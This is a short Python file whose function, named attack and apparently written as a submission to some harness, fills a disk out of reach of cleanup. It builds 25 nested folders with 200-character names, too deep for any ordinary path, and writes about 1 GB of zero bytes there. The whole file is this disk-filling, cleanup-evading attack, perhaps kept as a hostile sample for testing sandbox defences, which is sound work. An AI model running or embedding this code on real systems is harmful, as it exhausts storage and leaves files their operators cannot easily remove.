"""Writes 1 GB below a folder so deep that no path leads there: only a walk, one folder at a time."""

import os
import time


def attack(X, y):
    for _ in range(25):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    try:
        for number in range(100):
            with open(str(number), "wb", buffering=0) as file:
                for _ in range(10):
                    file.write(bytes(1 << 20))
    finally:
        time.sleep(1)
    return True
